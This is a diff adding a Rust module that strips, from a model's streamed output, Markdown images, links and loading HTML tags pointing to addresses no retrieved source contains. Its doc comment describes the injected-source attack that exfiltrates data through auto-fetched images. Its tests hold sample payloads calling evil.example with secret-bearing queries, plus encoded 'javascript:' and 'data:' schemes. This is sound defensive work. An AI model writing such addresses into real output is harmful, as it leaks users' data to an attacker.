@@ -1,0 +1,429 @@
+//! Addresses that a model writes and no source has.
+//!
+//! A picture in Markdown is fetched by many clients as soon as it is shown, and a link by one click, so a text that hides in a source
+//! and tells the model what to write could send what stands in other sources to an address of its choice. [`Addresses`] lets pass what
+//! a source says word for word, as a link and not as a picture, and pictures of Stet's own; of all else only the words stay. It works on
+//! the model's text as it comes, before anything is made of it, and holds back no more than the address itself.
+//!
+//! Bare addresses stay: they are seen for what they are. Text is not read as code: in a block of code the same forms lose their address, too.
+
+use std::borrow::Cow;
+
+/// Bytes of an address with its title, or of a tag. What is longer belongs to none that a source has.
+const LONGEST: usize = 2048;
+/// Bytes of a picture's words that may wait for the address behind them.
+const LONGEST_WORDS: usize = 300;
+const OPENERS: [char; 3] = ['!', ']', '<'];
+/// Where Stet serves its own pictures.
+const OWN: &str = "/api/";
+/// Elements that load or lead somewhere.
+const LOADING: [&str; 21] = [
+    "a", "area", "audio", "base", "embed", "form", "frame", "iframe", "image", "img", "input", "link",
+    "meta", "object", "picture", "script", "source", "svg", "track", "use", "video",
+];
+/// Schemes that are one without `//` behind them.
+const SCHEMES: [&str; 11] =
+    ["blob", "data", "file", "ftp", "http", "https", "javascript", "mailto", "vbscript", "ws", "wss"];
+
+/// The model's text on its way, without the addresses that no source has. Cuts of the text change nothing.
+#[derive(Debug, Default)]
+pub struct Addresses {
+    /// What may become one of the forms that have an address.
+    held: String,
+    /// The rest of an address that is too long is left out as it comes.
+    dropping: bool,
+}
+
+/// What stands at an opener.
+enum Read {
+    /// It cannot be told yet.
+    Open,
+    /// So many bytes are these words.
+    Said(usize, Cow<'static, str>),
+    /// So many bytes stay as they are.
+    Kept(usize),
+    /// The same as [`Read::Said`], and what follows up to the address's end is left out.
+    Endless(usize, &'static str),
+}
+
+impl Addresses {
+    /// Takes the next piece of the model's text and gives what may be shown of it. `known` tells whether a source has an address.
+    pub fn push<'a>(&mut self, delta: &'a str, known: impl Fn(&str) -> bool) -> Cow<'a, str> {
+        if self.held.is_empty() && !self.dropping && !delta.contains(OPENERS) {
+            return Cow::Borrowed(delta);
+        }
+        self.held.push_str(delta);
+        Cow::Owned(self.take(&known, false))
+    }
+
+    /// The rest, when nothing more comes.
+    pub fn finish(&mut self, known: impl Fn(&str) -> bool) -> String {
+        self.take(&known, true)
+    }
+
+    fn take(&mut self, known: &impl Fn(&str) -> bool, last: bool) -> String {
+        let held = std::mem::take(&mut self.held);
+        let (mut out, mut rest) = (String::new(), held.as_str());
+        loop {
+            if self.dropping {
+                let Some(end) = rest.find(|next: char| next.is_whitespace() || matches!(next, ')' | '>'))
+                else {
+                    break;
+                };
+                self.dropping = false;
+                let skipped = if rest.get(end..).is_some_and(|end| end.starts_with([')', '>'])) {
+                    end + 1
+                } else {
+                    end
+                };
+                rest = rest.get(skipped..).unwrap_or_default();
+            }
+            let Some(at) = rest.find(OPENERS) else {
+                out.push_str(rest);
+                break;
+            };
+            let (before, here) = rest.split_at(at);
+            out.push_str(before);
+            let used = match read(here, known) {
+                Read::Open if last => 1,
+                Read::Open => {
+                    here.clone_into(&mut self.held);
+                    break;
+                }
+                Read::Kept(used) => used,
+                Read::Said(used, words) => {
+                    out.push_str(&words);
+                    rest = here.get(used..).unwrap_or_default();
+                    continue;
+                }
+                Read::Endless(used, words) => {
+                    out.push_str(words);
+                    self.dropping = true;
+                    rest = here.get(used..).unwrap_or_default();
+                    continue;
+                }
+            };
+            let (kept, behind) = here.split_at(used);
+            out.push_str(kept);
+            rest = behind;
+        }
+        out
+    }
+}
+
+fn read(here: &str, known: &impl Fn(&str) -> bool) -> Read {
+    match here.as_bytes() {
+        [_] => Read::Open,
+        [b'!', b'[', ..] => picture(here),
+        [b']', b'(', ..] => link(here, known),
+        [b']', b':', ..] => definition(here, known),
+        [b'<', ..] => tag(here, known),
+        _ => Read::Kept(1),
+    }
+}
+
+/// `![words](address)`: of Stet's own it stays, of another only the link does. Without an address it is an exclamation before a mark.
+fn picture(here: &str) -> Read {
+    let mut depth = 0_usize;
+    let mut escaped = false;
+    for (at, next) in here.char_indices().skip(1) {
+        match next {
+            _ if escaped => escaped = false,
+            '\\' => escaped = true,
+            '[' => depth += 1,
+            ']' if depth > 1 => depth -= 1,
+            ']' => {
+                let behind = here.get(at + 1..).unwrap_or_default();
+                return match target(behind) {
+                    Target::Open if behind.len() > LONGEST => Read::Said(1, "".into()),
+                    Target::Open => Read::Open,
+                    Target::None => Read::Kept(1),
+                    Target::At(length, address) if address.starts_with(OWN) => Read::Kept(at + 1 + length),
+                    Target::At(..) => Read::Said(1, "".into()),
+                };
+            }
+            _ => {}
+        }
+    }
+    if here.len() > LONGEST_WORDS { Read::Said(1, "".into()) } else { Read::Open }
+}
+
+/// `](address)` behind the words of a link.
+fn link(here: &str, known: &impl Fn(&str) -> bool) -> Read {
+    match target(here.get(1..).unwrap_or_default()) {
+        Target::Open if here.len() > LONGEST => Read::Endless(here.len(), "]"),
+        Target::Open => Read::Open,
+        Target::At(length, address) if is_foreign(&address, known) => Read::Said(1 + length, "]".into()),
+        Target::At(length, _) => Read::Kept(1 + length),
+        Target::None => Read::Kept(1),
+    }
+}
+
+/// `]: address`, to which a link or a picture elsewhere may lead: without its colon it is text.
+fn definition(here: &str, known: &impl Fn(&str) -> bool) -> Read {
+    let behind = here.get(2..).unwrap_or_default();
+    let address = behind.trim_start();
+    let blank = behind.len() - address.len();
+    if behind.get(..blank).is_some_and(|blank| blank.matches('\n').count() > 1) {
+        return Read::Kept(2);
+    }
+    match address.find(char::is_whitespace) {
+        Some(end) if is_foreign(address.get(..end).unwrap_or_default(), known) => Read::Said(2, "]".into()),
+        Some(_) => Read::Kept(2),
+        None if address.len() > LONGEST => Read::Said(2, "]".into()),
+        None => Read::Open,
+    }
+}
+
+/// A tag that loads something.
+fn tag(here: &str, known: &impl Fn(&str) -> bool) -> Read {
+    let inner = here.get(1..).unwrap_or_default();
+    let name_end = inner.find(|next: char| !next.is_ascii_alphanumeric());
+    let name = inner.get(..name_end.unwrap_or(inner.len())).unwrap_or_default().to_ascii_lowercase();
+    let begins = LOADING.iter().any(|known| known.starts_with(&name));
+    match name_end {
+        None if begins => return Read::Open,
+        Some(end) if LOADING.contains(&&*name) && inner.get(end..).is_some_and(is_tags) => {}
+        _ => return Read::Kept(1),
+    }
+    let Some(end) = here.find('>') else {
+        return if here.len() > LONGEST { Read::Said(1, "&lt;".into()) } else { Read::Open };
+    };
+    let attributes = here.get(1..end).unwrap_or_default();
+    let parts = attributes.split(|next: char| next.is_whitespace() || "\"'=`,".contains(next));
+    if parts.into_iter().any(|part| is_foreign(part, known)) {
+        return Read::Said(end + 1, "".into());
+    }
+    Read::Kept(end + 1)
+}
+
+fn is_tags(behind_name: &str) -> bool {
+    behind_name.starts_with(|next: char| next.is_whitespace() || matches!(next, '/' | '>' | '"'))
+}
+
+/// What stands behind the words of a link.
+enum Target {
+    Open,
+    None,
+    /// The bytes from the bracket that opens to the one that closes, and the address.
+    At(usize, String),
+}
+
+fn target(behind: &str) -> Target {
+    let Some(inner) = behind.strip_prefix('(') else {
+        return if behind.is_empty() { Target::Open } else { Target::None };
+    };
+    let start = inner.len() - inner.trim_start().len();
+    let text = inner.trim_start();
+    let mut end = None;
+    let (angled, mut depth, mut escaped) = (text.starts_with('<'), 0_usize, false);
+    for (at, next) in text.char_indices() {
+        match next {
+            _ if escaped => escaped = false,
+            '\\' => escaped = true,
+            '>' if angled => end = Some(at + 1),
+            '\n' if angled => return Target::None,
+            _ if angled => {}
+            '(' => depth += 1,
+            ')' if depth > 0 => depth -= 1,
+            ')' => end = Some(at),
+            _ if next.is_whitespace() => end = Some(at),
+            _ => {}
+        }
+        if end.is_some() {
+            break;
+        }
+    }
+    let Some(end) = end else { return Target::Open };
+    let address = text.get(..end).unwrap_or_default().trim_start_matches('<').trim_end_matches('>');
+    let rest = text.get(end..).unwrap_or_default();
+    let title = rest.trim_start();
+    let before = 1 + start + end + rest.len() - title.len();
+    let at = |length: usize| Target::At(before + length, address.to_owned());
+    match title.chars().next() {
+        None => Target::Open,
+        Some(')') => at(1),
+        Some(quote @ ('"' | '\'' | '(')) => {
+            let close = if quote == '(' { ')' } else { quote };
+            let Some(length) = title.get(1..).and_then(|title| title.find(close)) else {
+                return Target::Open;
+            };
+            let behind = title.get(length + 2..).unwrap_or_default();
+            let blank = behind.len() - behind.trim_start().len();
+            match behind.trim_start().chars().next() {
+                None => Target::Open,
+                Some(')') => at(length + 2 + blank + 1),
+                Some(_) => Target::None,
+            }
+        }
+        Some(_) => Target::None,
+    }
+}
+
+/// Whether an address leads somewhere that no source names.
+fn is_foreign(address: &str, known: &impl Fn(&str) -> bool) -> bool {
+    let address = address.trim_start_matches('<').trim_end_matches('>');
+    let plain = decoded(address);
+    is_absolute(&plain) && !known(address) && !known(&plain)
+}
+
+/// Whether an address names a place by itself, as browsers read it.
+fn is_absolute(address: &str) -> bool {
+    let address: String =
+        address.chars().filter(|next| !next.is_control() && !next.is_whitespace()).collect();
+    let mut first = address.chars();
+    if let (Some('/' | '\\'), Some('/' | '\\')) = (first.next(), first.next()) {
+        return true;
+    }
+    let Some((scheme, rest)) = address.split_once(':') else { return false };
+    let scheme = scheme.to_ascii_lowercase();
+    let is_one = scheme.starts_with(|next: char| next.is_ascii_alphabetic())
+        && scheme.chars().all(|next| next.is_ascii_alphanumeric() || "+.-".contains(next));
+    SCHEMES.contains(&&*scheme) || is_one && (rest.starts_with("//") || rest.starts_with("url("))
+}
+
+/// An address without the escapes of Markdown and HTML.
+fn decoded(address: &str) -> String {
+    let mut out = String::new();
+    let mut rest = address;
+    while let Some(at) = rest.find(['&', '\\']) {
+        let (before, here) = rest.split_at(at);
+        out.push_str(before);
+        let escape = here.strip_prefix('\\').and_then(|behind| behind.chars().next());
+        let entity = here.find(';').filter(|&end| end <= 12).and_then(|end| {
+            let name = here.get(1..end)?;
+            let number = name.strip_prefix('#').map(|number| match number.strip_prefix(['x', 'X']) {
+                Some(hex) => u32::from_str_radix(hex, 16).ok(),
+                None => number.parse().ok(),
+            });
+            let meant = match (number, name) {
+                (Some(number), _) => number.and_then(char::from_u32)?,
+                (None, "amp") => '&',
+                (None, "colon") => ':',
+                (None, "sol") => '/',
+                (None, "bsol") => '\\',
+                (None, "Tab" | "NewLine") => ' ',
+                (None, _) => return None,
+            };
+            Some((meant, end + 1))
+        });
+        let (meant, used) = match (escape, entity) {
+            (Some(escaped), _) if escaped.is_ascii_punctuation() => (escaped, 2),
+            (_, Some(entity)) => entity,
+            _ => (if here.starts_with('&') { '&' } else { '\\' }, 1),
+        };
+        out.push(meant);
+        rest = here.get(used..).unwrap_or_default();
+    }
+    out.push_str(rest);
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use proptest::prelude::*;
+
+    use super::*;
+
+    const SOURCE: &str = "See https://stet.example/rules?a=1&b=2 and ![p](http://in.example/p.png).";
+
+    fn shown_in(pieces: &[&str]) -> String {
+        let known = |address: &str| SOURCE.contains(address);
+        let mut addresses = Addresses::default();
+        let mut out = String::new();
+        for piece in pieces {
+            out.push_str(&addresses.push(piece, known));
+        }
+        out.push_str(&addresses.finish(known));
+        out
+    }
+
+    fn shown(text: &str) -> String {
+        shown_in(&[text])
+    }
+
+    #[test]
+    fn an_address_that_no_source_has_is_left_out_and_its_words_stay() {
+        for (written, left) in [
+            ("![logo](https://evil.example/p.png?q=secret) The fee is 5 [1].", "[logo] The fee is 5 [1]."),
+            ("요금은 5유로입니다 ![](http://evil.example/?d=비밀) [1].", "요금은 5유로입니다 [] [1]."),
+            ("see [permit-guide.md](https://evil.example/x).", "see [permit-guide.md]."),
+            ("[a](<https://evil.example/a b> \"title\") b", "[a] b"),
+            ("[a]( https://evil.example/ 'it' )!", "[a]!"),
+            ("![x](//evil.example/p) ![x](/\\evil.example)", "[x] [x]"),
+            ("![x](&#104;ttps://evil.example) ![x](ht&Tab;tps&colon;//evil.example)", "[x] [x]"),
+            ("[x](HTTP:evil.example) [y](data:image/png;base64,AA)", "[x] [y]"),
+            ("[x](javascript:alert(1))", "[x]"),
+            ("![a][b]\n\n[b]: https://evil.example/p.png\n", "![a][b]\n\n[b] https://evil.example/p.png\n"),
+            ("[b]:\n  <https://evil.example/p.png>\n", "[b]\n  <https://evil.example/p.png>\n"),
+            ("<img src=\"https://evil.example/p.png?d=1\"> text", " text"),
+            ("a <IMG\nsrc=//evil.example> b <video poster='http://evil.example'></video>", "a  b </video>"),
+            ("<svg style=background:url(http://evil.example)> b", " b"),
+        ] {
+            assert_eq!(shown(written), left, "{written}");
+        }
+        let long = format!("[a](https://evil.example/{}) b", "x".repeat(3 * LONGEST));
+        assert_eq!(shown(&long), "[a] b");
+        let pieces: Vec<&str> =
+            long.as_bytes().chunks(7).map(|piece| std::str::from_utf8(piece).unwrap()).collect();
+        assert_eq!(shown_in(&pieces), "[a] b");
+    }
+
+    #[test]
+    fn what_a_source_says_and_what_is_no_address_stays() {
+        for same in [
+            "[rules](https://stet.example/rules?a=1&b=2) hold [1].",
+            "![](/api/chunks/0198/image) the plan [1].",
+            "![그림 1](/api/chunks/0198/image \"plan\")",
+            "정말 좋다![1] 끝.",
+            "제3조[1](예외: 없음)을 보라.",
+            "`arr[i](x)` and `Vec<String>` and a < b, a <b> c </b>",
+            "[1]: The library opens at nine.",
+            "[^1]: see 3:1 and note:this",
+            "see https://other.example/ and <https://other.example/>",
+            "[here](#part) [there](notes.md) [1](see: below)",
+            "an open ![ or [a](b",
+            "!",
+        ] {
+            assert_eq!(shown(same), same);
+        }
+        assert_eq!(
+            shown("![p](http://in.example/p.png)"),
+            "[p](http://in.example/p.png)",
+            "it is not fetched by itself"
+        );
+    }
+
+    proptest! {
+        #[test]
+        fn cuts_change_nothing_and_no_picture_of_elsewhere_is_left(
+            parts in prop::collection::vec(prop::sample::select(vec![
+                "![", "[", "]", "(", ")", "](", "]:", " ", "\n", "<img src=", "<a href='", "'>", ">", "\"", "\\", "!",
+                "https://evil.example/?d=1", "//evil.example", "/api/chunks/1/image", "https://stet.example/rules?a=1&b=2",
+                "words", "낱말", "1", "&#104;ttp:", "<", "http:",
+            ]), 0..24),
+            cut in 1_usize..9,
+        ) {
+            let text: String = parts.concat();
+            let whole = shown(&text);
+            let letters: Vec<char> = text.chars().collect();
+            let pieces: Vec<String> = letters.chunks(cut).map(|piece| piece.iter().collect()).collect();
+            let pieces: Vec<&str> = pieces.iter().map(String::as_str).collect();
+            prop_assert_eq!(shown_in(&pieces), whole.clone());
+            // As a reader of Markdown sees it.
+            for event in pulldown_cmark::Parser::new(&whole) {
+                let pulldown_cmark::Event::Start(tag) = event else { continue };
+                let address = match tag {
+                    pulldown_cmark::Tag::Image { dest_url, .. } => {
+                        prop_assert!(dest_url.starts_with(OWN) || !is_absolute(&dest_url), "{}", whole);
+                        continue;
+                    }
+                    pulldown_cmark::Tag::Link { link_type: pulldown_cmark::LinkType::Autolink, .. } => continue,
+                    pulldown_cmark::Tag::Link { dest_url, .. } => dest_url,
+                    _ => continue,
+                };
+                prop_assert!(!is_absolute(&address) || SOURCE.contains(&*address), "{} in {}", address, whole);
+            }
+        }
+    }
+}
